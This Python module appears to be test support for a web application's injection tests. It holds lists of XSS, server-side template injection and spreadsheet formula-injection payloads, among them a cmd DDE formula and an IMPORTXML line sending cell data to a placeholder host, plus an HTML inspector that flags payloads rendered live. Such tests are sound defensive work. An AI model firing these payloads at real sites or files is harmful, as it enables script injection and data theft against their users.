"""Hostile strings for the injection tests (issue 8, promise 3) and the checks that find them alive in a response.

Every XSS payload announces itself if it ever runs or becomes markup: it sets `window.__xss`, carries a `data-xss`
attribute, or points htmx at `/xss-probe` — so a page, a fragment or a real browser shows a hit without a dialog.
Most are at most 50 characters, the shortest text column they go into (a staff name, a family member's name)."""

from __future__ import annotations

import re
from html.parser import HTMLParser

# ---------------------------------------------------------------- cross-site scripting (≥ 50)

XSS: list[str] = [
    # classic script tags, case games, nesting
    "<script>window.__xss=1</script>",
    "<SCRIPT>window.__xss=2</SCRIPT>",
    "<ScRiPt data-xss>window.__xss=3</sCrIpT>",
    "<scr<script>ipt>window.__xss=4</script>",
    "<<script>window.__xss=5//<</script>",
    "<script src=/xss-probe.js data-xss></script>",
    # event handlers on harmless-looking tags
    "<img src=x onerror=window.__xss=6 data-xss>",
    '<IMG SRC=x OnErRoR="window.__xss=7" data-xss>',
    "<img src=x onerror=&#119;indow.__xss=8 data-xss>",
    "<svg onload=window.__xss=9 data-xss>",
    "<svg/onload=window.__xss=10 data-xss>",
    "<svg><script>window.__xss=11</script></svg>",
    "<svg><animate onbegin=window.__xss=12 data-xss>",
    "<body onload=window.__xss=13 data-xss>",
    "<details open ontoggle=window.__xss=14 data-xss>",
    "<input autofocus onfocus=window.__xss=15 data-xss>",
    "<x onclick=window.__xss=16 data-xss>点我</x>",
    "<video><source onerror=window.__xss=17 data-xss>",
    "<audio src=x onerror=window.__xss=18 data-xss>",
    "<marquee onstart=window.__xss=19 data-xss>",
    "<p tabindex=1 onfocusin=window.__xss=20 data-xss>",
    # breaking out of an attribute or a tag the value lands in
    '"><img src=x onerror=window.__xss=21 data-xss>',
    "'><img src=x onerror=window.__xss=22 data-xss>",
    '" onmouseover="window.__xss=23" data-xss="',
    "' onmouseover='window.__xss=24' data-xss='",
    '" autofocus onfocus="window.__xss=25" x="',
    '"><svg/onload=window.__xss=26 data-xss>',
    "--><img src=x onerror=window.__xss=27 data-xss>",
    "</textarea><script>window.__xss=28</script>",
    "</title><script>window.__xss=29</script>",
    "</script><script>window.__xss=30</script>",
    "</style><script>window.__xss=31</script>",
    "<noscript><img src=x onerror=window.__xss=32>",
    "<![CDATA[<script>window.__xss=33</script>]]>",
    # javascript: and data: URLs
    "javascript:window.__xss=34//",
    "JaVaScRiPt:window.__xss=35",
    "java\tscript:window.__xss=36",
    '<a href="javascript:window.__xss=37" data-xss>',
    "<a href=javascript&colon;alert(38) data-xss>x",
    '<a href="&#106;avascript:alert(39)" data-xss>x</a>',
    '<a href=" javascript:alert(40)" data-xss>x</a>',
    "<a href=data:text/html,xss41 data-xss>x</a>",
    "<iframe src=data:text/html,xss42 data-xss>",
    "<object data=data:text/html,xss43 data-xss>",
    "<button formaction=javascript:alert(44) data-xss>",
    "<math><mi xlink:href=javascript:alert(45)>x",
    "<base href=//xss-probe.invalid/ data-xss>",
    "<meta http-equiv=refresh content=0;url=/xss-probe>",
    # htmx attribute injection: htmx processes any hx-* in swapped content
    "<div hx-get=/xss-probe hx-trigger=load data-xss>",
    "<div data-hx-get=/xss-probe data-hx-trigger=load>",
    "<b hx-on:click=window.__xss=50 data-xss>x</b>",
    "<b hx-on::load=window.__xss=51 data-xss>x</b>",
    "<form hx-post=/xss-probe hx-trigger=load data-xss>",
    '" hx-get="/xss-probe" hx-trigger="load" x="',
    "' hx-on:click='window.__xss=54' x='",
    "<i hx-vals='js:{a:window.__xss=55}' data-xss>",
    "<p hx-get=/xss-probe hx-swap=outerHTML data-xss>",
    # JavaScript string, template-literal and JSON contexts
    "';window.__xss=57;//",
    '";window.__xss=58;//',
    "`${window.__xss=59}`",
    "\\u003cscript\\u003ewindow.__xss=60\\u003c/script",
    "\\x3cimg src=x onerror=window.__xss=61\\x3e",
    "</script><img src=x onerror=window.__xss=62>",
    # entity- and percent-encoded, full-width, CSS, null bytes, direction marks
    "&lt;script&gt;window.__xss=63&lt;/script&gt;",
    "&#60;img src=x onerror=window.__xss=64&#62;",
    "&#x3C;svg onload=window.__xss=65&#x3E;",
    "%3Cscript%3Ewindow.__xss=66%3C/script%3E",
    "＜script＞window.__xss=67＜/script＞",
    '<p style="width:expression(alert(68))" data-xss>',
    "<p style=background:url(javascript:alert(69))>",
    "<style>@import'/xss-probe.css';</style>",
    "<img src=x on\x00error=window.__xss=71 data-xss>",
    "<scr\x00ipt>window.__xss=72</script>",
    "\u202e<script>window.__xss=73</script>",
    "\ufeff<img src=x onerror=window.__xss=74 data-xss>",
]

# ---------------------------------------------------------------- server-side template injection
# 7*7777 = 54439: unlike 49 it never appears on a page by chance, so its absence proves nothing was evaluated.

SSTI: list[str] = [
    "{{7*7}}",
    "{{7*7777}}",
    "{% raw %}{{7*7777}}{% endraw %}",
    "${7*7777}",
    "#{7*7777}",
    "*{7*7777}",
    "<%= 7*7777 %>",
    "{{config}}",
    "{{''.__class__}}",
    "{{self.__init__.__globals__}}",
    "{{request.environ}}",
    "{{ lipsum.__globals__.os }}",
    "{% include 'base.html' %}",
    "{{constructor.constructor('window.__xss=1')()}}",
]
SSTI_EVALUATED = ("54439", "<class 'str'>", "SECRET_KEY", "<Config ", "wsgi.", "<module 'os'")

# ---------------------------------------------------------------- spreadsheet formula injection

FORMULA: list[str] = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    '=HYPERLINK("http://x.invalid","点此")',
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
    "=SUM(1,2)*3",
    "=IMPORTXML(CONCAT(\"http://x.invalid/\",A1),\"//a\")",
    " =1+1",
    "＝1+1",
]

ALL: list[str] = XSS + SSTI + FORMULA


def fits(limit: int) -> list[str]:
    """The payloads a text column of `limit` characters can hold."""
    return [p for p in ALL if len(p) <= limit]


# One of each kind, for short fields that need one saved object per payload (a plan's name, a tier's name): the
# script tag, each event-handler trick, each breakout, javascript:/data: URLs, each htmx injection, the JS-string
# and encoded forms, NUL, and the template and formula strings.
SAMPLE: list[str] = [XSS[i] for i in (0, 3, 6, 9, 17, 21, 22, 23, 24, 27, 28, 30, 34, 36, 41, 48, 49, 50, 51, 52, 53,
                                      57, 59, 63, 71, 72)] + [SSTI[1], SSTI[7], SSTI[8], FORMULA[0], FORMULA[7]]


def bundles(limit: int, items: list[str] | None = None, sep: str = " ") -> list[str]:
    """`items` (all payloads by default) packed into as few values of at most `limit` characters as they fit in:
    a long text field takes every payload in one or two saves instead of a hundred."""
    out: list[str] = []
    for p in items if items is not None else ALL:
        if len(p) > limit:
            continue
        if out and len(out[-1]) + len(sep) + len(p) <= limit:
            out[-1] += sep + p
        else:
            out.append(p)
    return out


# ---------------------------------------------------------------- what a stored payload must never become

_URL_ATTRS = {"href", "src", "action", "formaction", "xlink:href", "data", "srcdoc", "poster", "background"}
_ALWAYS_INJECTED_TAGS = {"iframe", "object", "embed", "base", "frame", "frameset", "applet", "math"}
_HTMX_REQUEST = re.compile(r"^(data-)?hx-(get|post|put|patch|delete)$")


def _compact(value: str) -> str:
    # Browsers drop control characters and whitespace inside a URL scheme ("java\tscript:" runs).
    return re.sub(r"[\x00-\x20]+", "", value).lower()


class _Inspector(HTMLParser):
    def __init__(self, nonce: str | None) -> None:
        super().__init__(convert_charrefs=True)
        self.nonce = nonce
        self.findings: list[str] = []
        self.texts: list[str] = []
        self._script_depth = 0

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self._check(tag, attrs)

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self._check(tag, attrs)

    def _check(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        where = f"<{tag} {' '.join(f'{k}={v!r}' for k, v in attrs)}>"
        names = {k for k, _ in attrs}
        if tag in _ALWAYS_INJECTED_TAGS:
            self.findings.append(f"element {where}")
        if tag == "meta" and any(k == "http-equiv" for k in names):
            self.findings.append(f"meta refresh {where}")
        if tag == "script":
            self._script_depth += 1
            nonce = dict(attrs).get("nonce")
            if self.nonce is not None and nonce != self.nonce:
                self.findings.append(f"script without the page nonce {where}")
        for name, value in attrs:
            value = value or ""
            self.texts.append(value)
            if name.startswith("on"):
                self.findings.append(f"event handler {name} {where}")
            elif name == "data-xss":
                self.findings.append(f"injected attribute {where}")
            elif name.startswith(("hx-on", "data-hx-on")):
                self.findings.append(f"htmx inline handler {where}")
            elif _HTMX_REQUEST.match(name) and _compact(value).startswith(("/xss-probe", "xss-probe")):
                self.findings.append(f"htmx request from payload {where}")
            elif name in ("hx-vals", "data-hx-vals") and _compact(value).startswith("js:"):
                self.findings.append(f"htmx js: values {where}")
            elif name in _URL_ATTRS and _compact(value).startswith(("javascript:", "vbscript:", "data:text")):
                self.findings.append(f"script URL {where}")
            elif name == "style" and ("expression(" in value or "javascript:" in value):
                self.findings.append(f"script in style {where}")
            elif name == "src" and _compact(value).startswith(("/xss-probe", "xss-probe")):
                self.findings.append(f"payload source {where}")

    def handle_endtag(self, tag: str) -> None:
        if tag == "script" and self._script_depth:
            self._script_depth -= 1

    def handle_data(self, data: str) -> None:
        if self._script_depth and "__xss" in data:
            self.findings.append(f"payload inside a script: {data[:80]!r}")
        self.texts.append(data)


def inspect(html: str) -> tuple[list[str], str]:
    """(findings, text): every element, attribute or script in `html` that came alive from a payload, and the
    document's decoded text and attribute values (what a person reads or a form field holds), joined by newlines.
    A script must carry the page's own nonce (taken from the first script of the page, or none if there is none)."""
    first = re.search(r"<script[^>]*\snonce=\"([^\"]+)\"", html)
    inspector = _Inspector(first.group(1) if first else None)
    inspector.feed(html)
    inspector.close()
    if first is None and re.search(r"<script", html, re.I):
        # A fragment has no nonce of its own: any script element in it came from somewhere else.
        inspector.findings.extend(f"script element in a fragment: {m.group(0)[:80]!r}"
                                  for m in re.finditer(r"<script[^>]*>", html, re.I))
    return inspector.findings, "\n".join(inspector.texts)


def normalise(text: str) -> str:
    """Without whitespace and NUL: a form trims, a NUL may become a space or nothing, a table cell wraps."""
    return re.sub(r"[\s\x00]+", "", text)


def shown_literally(payload: str, text: str) -> bool:
    return normalise(payload) in normalise(text)


def ssti_evaluated(body: str) -> list[str]:
    """Signs that a template expression was evaluated: 7*7777, a class repr, the config, the environ."""
    import html as htmllib

    plain = htmllib.unescape(body)
    return [sign for sign in SSTI_EVALUATED if sign in plain]
